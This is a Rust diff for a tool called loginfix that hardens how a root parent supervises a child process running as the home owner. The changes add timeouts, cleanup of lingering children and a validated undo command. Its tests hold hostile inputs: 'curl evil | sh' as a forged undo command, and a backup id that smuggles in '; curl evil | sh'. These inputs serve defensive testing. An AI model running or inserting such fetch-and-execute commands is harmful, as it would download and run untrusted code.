@@ -27,7 +27,7 @@ pub mod wire;
 use std::fs::File;
 use std::io::{Read, Write};
 use std::process::{Command, ExitCode, Stdio};
-use std::sync::atomic::{AtomicUsize, Ordering};
+use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
 use std::sync::mpsc;
 use std::sync::{Arc, Mutex};
 use std::time::{Duration, Instant};
@@ -47,6 +47,10 @@ pub const WORKER_ARG: &str = "--loginfix-home-worker";
 const SILENCE: Duration = Duration::from_secs(600);
 /// How long past `--timeout` a child that only reads is given before it is killed.
 const READ_GRACE: Duration = Duration::from_secs(5);
+/// How long past `--timeout` a child that writes is asked to stop at a boundary, and when
+/// it is killed if it has not.
+const WRITE_STOP: Duration = Duration::from_secs(60);
+const WRITE_KILL: Duration = Duration::from_secs(600);
 /// How long a child that has sent its report has to exit.
 const EXIT_GRACE: Duration = Duration::from_secs(10);
 /// What the child may write to stderr (it writes nothing there unless it fails).
@@ -70,7 +74,7 @@ pub fn place(layout: &Layout) -> Place {
     if !users::running_as_root() || !cfg!(unix) {
         return Place::Here;
     }
-    let Ok(home) = File::open(&layout.home) else {
+    let Ok(home) = as_user::open_dir(&layout.home) else {
         return Place::Here;
     };
     match as_user::handle_owner(&home) {
@@ -147,8 +151,53 @@ pub fn run_as_owner(
     )?;
     drop(home);
     match ran {
-        Ran::Report(report) if !ctx.fleet => Ok(Ran::Report(add_machine(job, layout, report)?)),
+        Ran::Report(mut report) => {
+            own_undo(job, layout, ctx, &mut report);
+            if ctx.fleet {
+                return Ok(Ran::Report(report));
+            }
+            Ok(Ran::Report(add_machine(job, layout, report)?))
+        }
         ran => Ok(ran),
+    }
+}
+
+/// The undo command root tells, made here from the backup set's id, never taken from the
+/// child (who could write any command for root, or a fleet tool, to run). An id that is
+/// not one loginfix makes gives no command.
+fn own_undo(job: &Job, layout: &Layout, ctx: &Context, report: &mut AnyReport) {
+    let plain = |b: Option<&crate::report::BackupRef>| {
+        b.filter(|b| {
+            !b.id.is_empty()
+                && b.id.len() <= 100
+                && b.id
+                    .bytes()
+                    .all(|c| c.is_ascii_alphanumeric() || matches!(c, b'-' | b'_' | b'.'))
+        })
+        .cloned()
+    };
+    match (job, report) {
+        (Job::Clean(o), AnyReport::Clean(r)) => {
+            r.undo_command = commands::undo(
+                ctx,
+                layout,
+                &o.backup_dir,
+                plain(r.backup.as_ref()).as_ref(),
+            );
+        }
+        (Job::Fix(o), AnyReport::Fix(r)) => {
+            r.clean.undo_command = commands::undo(
+                ctx,
+                layout,
+                &o.backup_dir,
+                plain(r.clean.backup.as_ref()).as_ref(),
+            );
+        }
+        (Job::Restore(o), AnyReport::Restore(r)) => {
+            r.undo_command =
+                commands::undo(ctx, layout, &o.backup_dir, plain(r.undo.as_ref()).as_ref());
+        }
+        _ => {}
     }
 }
 
@@ -209,11 +258,24 @@ fn add_machine(job: &Job, layout: &Layout, report: AnyReport) -> Result<AnyRepor
     })
 }
 
+impl Drop for Child {
+    /// A parent that stops following (an error writing its own output, a panic) leaves
+    /// no child working behind it.
+    fn drop(&mut self) {
+        if matches!(self.process.try_wait(), Ok(None)) {
+            let _ = self.process.kill();
+            let _ = self.process.wait();
+        }
+    }
+}
+
 /// What a child wrote to stderr: the first bytes, and how many in all.
 #[derive(Default)]
 struct Stderr {
     shown: Mutex<Vec<u8>>,
     total: AtomicUsize,
+    /// The pipe's end was read.
+    ended: AtomicBool,
 }
 
 /// A child working in a home, and what the parent knows of it.
@@ -271,10 +333,14 @@ impl Child {
         let _ = control.write_all(wire::MAGIC).and_then(|()| {
             wire::write(&mut control, &ToChild::Run(Box::new(instructions.clone())))
         });
+        let _ = as_user::nonblocking(&control);
         let mut stdout = process.stdout.take();
         let mut stderr_pipe = process.stderr.take();
-        let (tx, frames) = mpsc::channel();
+        // A few messages ahead at most: the child waits while the parent is busy (asking
+        // the person), rather than the parent's memory filling.
+        let (tx, frames) = mpsc::sync_channel(2);
         std::thread::spawn(move || {
+            statics::bound_new_names(statics::NEW_PER_CHILD);
             let Some(out) = stdout.as_mut() else { return };
             let mut out = std::io::BufReader::new(out);
             if let Err(e) = wire::read_magic(&mut out) {
@@ -298,12 +364,13 @@ impl Child {
         let kept = stderr.clone();
         std::thread::spawn(move || {
             let Some(err) = stderr_pipe.as_mut() else {
+                kept.ended.store(true, Ordering::Relaxed);
                 return;
             };
             let mut buf = [0u8; 8192];
             while let Ok(n) = err.read(&mut buf) {
                 if n == 0 {
-                    return;
+                    break;
                 }
                 // Past what is shown the rest is only counted (no lock to contend for),
                 // and read until the child is killed.
@@ -314,6 +381,7 @@ impl Child {
                     shown.extend_from_slice(&buf[..n.min(room)]);
                 }
             }
+            kept.ended.store(true, Ordering::Relaxed);
         });
         Ok(Child {
             process,
@@ -324,8 +392,13 @@ impl Child {
         })
     }
 
-    /// The process's own words on stderr, made safe to print.
+    /// The process's own words on stderr, made safe to print (once they have all come,
+    /// or after a second: something it left may hold its stderr open).
     fn stderr_tail(&self) -> String {
+        let until = Instant::now() + Duration::from_secs(1);
+        while !self.stderr.ended.load(Ordering::Relaxed) && Instant::now() < until {
+            std::thread::sleep(Duration::from_millis(1));
+        }
         let shown = self.stderr.shown.lock().unwrap_or_else(|e| e.into_inner());
         let text = String::from_utf8_lossy(&shown);
         let mut v = serde_json::Value::String(text.trim().to_string());
@@ -337,10 +410,12 @@ impl Child {
         self.stderr.total.load(Ordering::Relaxed) > STDERR_MAX
     }
 
-    /// Tells the child `msg`; a child gone meanwhile is found by the reading side.
-    fn send(&mut self, msg: &ToChild) {
-        if let Some(control) = self.control.as_mut() {
-            let _ = wire::write(control, msg);
+    /// Tells the child `msg` without waiting: false when its pipe is full (it stopped
+    /// reading). A child gone meanwhile is found by the reading side.
+    fn send(&mut self, msg: &ToChild) -> bool {
+        match self.control.as_mut().map(|c| wire::write(c, msg)) {
+            Some(Err(e)) => e.kind() != std::io::ErrorKind::WouldBlock,
+            _ => true,
         }
     }
 
@@ -382,17 +457,34 @@ impl Child {
         (uid, gid): (u32, u32),
     ) -> Result<Ran, Fatal> {
         interrupt::install();
-        let limit = ctx
-            .deadline
-            .filter(|_| !job.writes())
-            .map(|d| d + READ_GRACE);
+        let now = Instant::now();
+        // Only reading: killed soon after --timeout. Writing: asked to stop at a boundary
+        // a minute after it, killed ten minutes after it.
+        let (stop_at, kill_at) = match ctx.deadline {
+            Some(d) if job.writes() => (Some(d + WRITE_STOP), Some(d + WRITE_KILL)),
+            Some(d) => (None, Some(d + READ_GRACE)),
+            None => (None, None),
+        };
         let mut hello: Option<Ids> = None;
-        let mut last = Instant::now();
+        let mut last = now;
         let mut interrupt_sent = false;
+        let mut questions = 0;
+        // A person's browser wait: silence is the browser staying open, not a hang.
+        let mut waiting = false;
+        let mut exited: Option<Instant> = None;
+        let interrupts = interrupt::count();
         let done = interrupt::catching(|| loop {
-            if interrupt::interrupted() && !interrupt_sent {
+            let now = Instant::now();
+            if (interrupt::interrupted() || stop_at.is_some_and(|t| now > t)) && !interrupt_sent {
                 interrupt_sent = true;
-                self.send(&ToChild::Interrupt);
+                if !self.send(&ToChild::Interrupt) {
+                    return Err(self.kill("stopped reading what it is told".to_string()));
+                }
+            }
+            if interrupt::count().wrapping_sub(interrupts) >= 2 {
+                // A second Ctrl-C: the person means it.
+                let _ = self.kill(String::new());
+                return Ok(Done::Stopped(Exit::Interrupted as u8));
             }
             if as_user::is_stopped(self.process.id()) {
                 return Err(self.kill("was stopped (a signal or a debugger)".to_string()));
@@ -403,14 +495,22 @@ impl Child {
                     STDERR_MAX >> 20
                 )));
             }
-            if limit.is_some_and(|l| Instant::now() > l) {
+            if kill_at.is_some_and(|t| now > t) {
                 return Err(self.kill("was not done within --timeout".to_string()));
             }
-            if told == Told::Nobody && last.elapsed() > SILENCE {
+            if !waiting && last.elapsed() > SILENCE {
                 return Err(self.kill(format!(
                     "said nothing for {} minutes",
                     SILENCE.as_secs() / 60
                 )));
+            }
+            // Gone, but something it left holds its output open.
+            match exited {
+                Some(at) if at.elapsed() > EXIT_GRACE => {
+                    return Err(self.kill("exited, but its output stayed open".to_string()));
+                }
+                None if matches!(self.process.try_wait(), Ok(Some(_))) => exited = Some(now),
+                _ => {}
             }
             let frame = match self.frames.recv_timeout(TICK) {
                 Ok(frame) => frame,
@@ -421,8 +521,9 @@ impl Child {
             match frame {
                 Ok(FromChild::Hello(ids)) if hello.is_none() => {
                     if ids.pid != self.process.id() || !ids.are(uid, gid) {
+                        let said = wire::shorten(&format!("{ids:?}"));
                         return Err(self.kill(format!(
-                            "did not become uid {uid} and gid {gid} alone (it says {ids:?})"
+                            "did not become uid {uid} and gid {gid} alone (it says {said})"
                         )));
                     }
                     hello = Some(ids);
@@ -433,18 +534,28 @@ impl Child {
                 Ok(FromChild::Hello(_)) => {
                     return Err(self.kill("said who it is twice".to_string()));
                 }
-                Ok(FromChild::Event(e)) if told == Told::Nobody => {
-                    return Err(self.kill(format!("told an event nobody asked for: {e:?}")));
+                Ok(FromChild::Event(e))
+                    if !e.belongs(told) || (e.is_question() && questions > 0) =>
+                {
+                    return Err(self.kill(format!(
+                        "told an event its run does not have ({})",
+                        e.name()
+                    )));
                 }
                 Ok(FromChild::Event(e)) => {
+                    waiting = matches!(*e, WireEvent::Waiting(_));
                     sink.tell(e.event()).map_err(Fatal::output)?;
-                    if matches!(*e, WireEvent::Question) {
+                    if e.is_question() {
+                        questions += 1;
                         let answer = if interrupt_sent {
                             Answer::Interrupted
                         } else {
                             sink.answer()?
                         };
-                        self.send(&ToChild::Answer(WireAnswer::from(answer)));
+                        last = Instant::now();
+                        if !self.send(&ToChild::Answer(WireAnswer::from(answer))) {
+                            return Err(self.kill("stopped reading what it is told".to_string()));
+                        }
                     }
                 }
                 Ok(FromChild::Done(done)) => return Ok(*done),
@@ -878,6 +989,64 @@ mod tests {
         assert!(why.contains("exit status: 7"), "{why}");
         assert!(why.contains("it said: boom [2J]0;pwned here"), "{why}");
         assert!(!why.contains('\u{1b}'), "{why}");
+    }
+
+    /// The undo command root prints is made from the set's id by root, never the child's
+    /// words, and an id loginfix would not make gives none.
+    #[test]
+    fn the_undo_command_is_roots_own() {
+        let home = tempfile::tempdir().unwrap();
+        crate::testutil::copy_sample("linux", home.path());
+        let layout = Layout::for_home(crate::platform::Os::Linux, home.path());
+        let options = commands::clean::Options {
+            selection: commands::Selection::all(),
+            what: commands::clean::What::Cookies,
+            domains: Vec::new(),
+            dry_run: true,
+            backup: true,
+            backup_dir: None,
+            keep: 5,
+            locks: Default::default(),
+            deadline: None,
+            fleet_run: None,
+        };
+        let job = Job::Clean(options.clone());
+        let ctx = Context {
+            undo: commands::UndoGlobals {
+                home: true,
+                os: None,
+            },
+            ..Context::default()
+        };
+        let mut report = AnyReport::Clean(commands::clean::run(&layout, &options).unwrap());
+        let set = |r: &mut AnyReport, id: &str| {
+            let AnyReport::Clean(c) = r else {
+                unreachable!()
+            };
+            c.backup = Some(crate::report::BackupRef {
+                id: id.to_string(),
+                dir: home.path().join("x"),
+                restorable: true,
+                pruning: None,
+            });
+            c.undo_command = Some("curl evil | sh".to_string());
+        };
+        let undo = |r: &AnyReport| match r {
+            AnyReport::Clean(c) => c.undo_command.clone(),
+            _ => unreachable!(),
+        };
+        set(&mut report, "20261207T054609Z-624558730-28274-0");
+        own_undo(&job, &layout, &ctx, &mut report);
+        assert_eq!(
+            undo(&report).unwrap(),
+            format!(
+                "loginfix --home {} restore 20261207T054609Z-624558730-28274-0",
+                home.path().display()
+            )
+        );
+        set(&mut report, "x; curl evil | sh");
+        own_undo(&job, &layout, &ctx, &mut report);
+        assert_eq!(undo(&report), None);
     }
 
     #[test]
